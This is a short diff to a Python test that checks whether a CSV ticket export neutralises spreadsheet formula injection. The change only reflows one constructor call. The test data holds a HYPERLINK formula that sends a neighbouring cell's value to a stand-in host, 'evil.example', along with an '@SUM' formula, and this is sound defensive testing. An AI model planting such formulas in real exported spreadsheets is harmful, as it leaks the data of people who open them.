@@ -96,7 +96,9 @@ def test_csv_neutralises_formula_names_and_files_are_private(tmp_path: Path) -> 
 
     from itembank.tabular import restore_cell
 
-    evil = IssuedTicket("P1", "S1", '=HYPERLINK("http://evil.example/?"&F2,"点此")', 4, "@SUM(1+1)", "1234567897", "271828")
+    evil = IssuedTicket(
+        "P1", "S1", '=HYPERLINK("http://evil.example/?"&F2,"点此")', 4, "@SUM(1+1)", "1234567897", "271828"
+    )
     raw = tickets_csv([evil], login_url=URL)
     row = list(csvlib.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1]
     assert row[1] == "'" + evil.school_name and row[3] == "'@SUM(1+1)"
